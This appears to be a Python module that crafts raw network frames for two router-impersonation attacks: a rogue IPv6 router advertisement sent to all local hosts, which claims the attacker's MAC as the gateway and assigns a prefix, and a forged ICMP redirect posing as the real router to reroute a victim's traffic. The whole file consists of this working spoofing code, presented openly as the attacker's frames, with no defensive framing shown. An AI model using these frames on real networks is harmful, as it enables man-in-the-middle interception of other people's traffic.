"""Frames of somebody on the network who would rather be the router.

After RFC 4861 (neighbour discovery) and RFC 792 (ICMP).
"""

import ipaddress
import struct

MAC = "52:54:00:99:99:01"
PREFIX = "2001:db8:bad::"


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", total ^ 0xFFFF)


def advertisement():
    """A router advertisement to all: I am your way out, and PREFIX is where you live."""
    source = ipaddress.ip_address("fe80::bad").packed
    target = ipaddress.ip_address("ff02::1").packed
    prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 86400, 0) + ipaddress.ip_address(PREFIX).packed
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + struct.pack("!BB", 1, 1) + mac(MAC) + prefix
    body = body[:2] + checksum(source + target + struct.pack("!II", len(body), 58) + body) + body[4:]
    return (mac("33:33:00:00:00:01") + mac(MAC) + b"\x86\xdd"
            + struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + target + body)


def ipv4(source, target, payload):
    head = struct.pack("!BBHHHBB", 0x45, 0, 20 + len(payload), 1, 0, 64, 1)
    addresses = ipaddress.ip_address(source).packed + ipaddress.ip_address(target).packed
    return head + checksum(head + b"\0\0" + addresses) + addresses + payload


def icmp(kind, code, rest):
    head = struct.pack("!BB", kind, code)
    return head + checksum(head + b"\0\0" + rest) + rest


def redirect(host_mac, host, router, destination, way):
    """As if from the router: HOST is to reach DESTINATION by another WAY."""
    sent = ipv4(host, destination, icmp(0, 0, struct.pack("!HH", 1, 1)))
    return (mac(host_mac) + mac(MAC) + b"\x08\x00"
            + ipv4(router, host, icmp(5, 1, ipaddress.ip_address(way).packed + sent)))
